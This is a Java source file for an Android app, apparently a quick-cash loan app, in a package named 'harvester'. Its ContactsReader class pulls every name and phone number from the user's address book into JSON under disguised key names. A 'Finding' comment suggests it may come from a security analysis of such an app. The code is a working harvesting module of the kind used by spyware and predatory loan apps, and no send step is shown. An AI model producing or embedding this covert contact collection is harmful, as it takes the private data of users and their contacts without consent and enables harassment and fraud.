package com.example.quickcash.harvester;

import android.content.Context;
import android.database.Cursor;
import android.provider.ContactsContract;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Finding, contacts: all phone numbers of the address book, through a URI field of the framework. */
final class ContactsReader {
    private ContactsReader() {}

    static JSONArray read(Context context) throws JSONException {
        JSONArray people = new JSONArray();
        Cursor rows =
                context.getContentResolver()
                        .query(
                                ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
                                new String[] {
                                    ContactsContract.CommonDataKinds.Phone.DISPLAY_NAME,
                                    ContactsContract.CommonDataKinds.Phone.NUMBER,
                                },
                                null,
                                null,
                                null);
        while (rows.moveToNext()) {
            JSONObject person = new JSONObject();
            person.put("willow", rows.getString(0));
            person.put("cobble", rows.getString(1));
            people.put(person);
        }
        rows.close();
        return people;
    }
}
